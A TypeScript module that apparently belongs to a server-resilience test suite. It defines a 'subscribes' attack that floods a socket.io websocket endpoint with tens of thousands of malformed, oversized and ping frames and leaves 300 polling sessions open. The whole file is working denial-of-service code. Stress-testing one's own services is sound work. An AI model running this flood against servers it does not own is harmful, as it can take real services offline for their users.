/** Pages without a session that say much and read nothing: every kind of frame that a socket may send. */
import { createHash, randomBytes } from 'node:crypto';
import type { Attack, Target } from './attack.ts';
import { createRawLines, type RawLine, type RawLines } from './raw-lines.ts';

const PAGES = 8;
const ROUNDS = 600;
const PER_ROUND = 100;
const OPENED_AND_LEFT = 300;
const CLOSED_WITHIN_MS = 5_000;

const TEXT = 1;
const BINARY = 2;
const PING = 9;

/** By kind, one frame each. */
const FLOODS: Readonly<Record<string, Buffer>> = {
  subscribe: frame(TEXT, '42/live,["subscribe",{"site":"all"}]'),
  connect: frame(TEXT, '40/live,'),
  elsewhere: frame(TEXT, '40/nowhere,'),
  unknown: frame(TEXT, '42/live,["unknown",{}]'),
  acknowledgement: frame(TEXT, '43/live,1[]'),
  attachment: frame(TEXT, '459-/live,["subscribe",{"_placeholder":true,"num":0}]'),
  binary: frame(BINARY, Buffer.alloc(8_000)),
  ping: frame(PING, Buffer.alloc(100)),
  huge: frame(TEXT, `42/live,["subscribe","${'x'.repeat(60_000)}"]`),
};

export const httpSubscribes: Attack = {
  name: 'subscribes',
  async run(target, signal) {
    const lines = createRawLines(target, signal);
    try {
      const pages = Object.values(FLOODS).flatMap((flood) => Array.from({ length: PAGES }, () => flood));
      await Promise.all(pages.map((flood) => floodWith(flood, lines, target, signal)));
      await openAndLeave(lines, target);
      await lines.whenClosed(CLOSED_WITHIN_MS);
      return `${pages.length} pages with up to ${ROUNDS * PER_ROUND} frames each, ${OPENED_AND_LEFT} sessions left; ${lines.closedCount()} connections closed by the server`;
    } finally {
      lines.end();
    }
  },
};

async function floodWith(flood: Buffer, lines: RawLines, target: Target, signal: AbortSignal): Promise<void> {
  const page = lines.open({ reads: false });
  await page.say(upgradeTo(target, '/socket.io/?EIO=4&transport=websocket'));
  await page.say(Buffer.concat([frame(TEXT, '40/live,'), frame(TEXT, '42/live,["subscribe",{"site":"all"}]')]));
  const round = Buffer.concat(Array.from({ length: PER_ROUND }, () => flood));
  for (let i = 0; i < ROUNDS && !page.isClosed() && !signal.aborted; i++) await page.say(round);
}

/** Sessions by polling that nobody comes back to. */
async function openAndLeave(lines: RawLines, target: Target): Promise<void> {
  const opening: Promise<void>[] = [];
  for (let i = 0; i < OPENED_AND_LEFT; i++) {
    const line: RawLine = lines.open();
    opening.push(line.say(`GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: ${target.host}\r\n\r\n`));
  }
  await Promise.all(opening);
}

export function upgradeTo({ host }: Target, path: string, protocol = 'websocket'): string {
  const key = createHash('sha1').update(randomBytes(8)).digest().subarray(0, 16).toString('base64');
  const ofWebsocket = `Sec-WebSocket-Key: ${key}\r\nSec-WebSocket-Version: 13\r\n`;
  return `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade\r\nUpgrade: ${protocol}\r\n${ofWebsocket}\r\n`;
}

/** A client's frame, masked with zeros (RFC 6455, 5.2). */
function frame(opcode: number, content: string | Buffer): Buffer {
  const payload = Buffer.from(content as string);
  const long = payload.length > 125;
  const head = Buffer.alloc(long ? 8 : 6);
  head[0] = 0x80 | opcode;
  head[1] = 0x80 | (long ? 126 : payload.length);
  if (long) head.writeUInt16BE(payload.length, 2);
  return Buffer.concat([head, payload]);
}
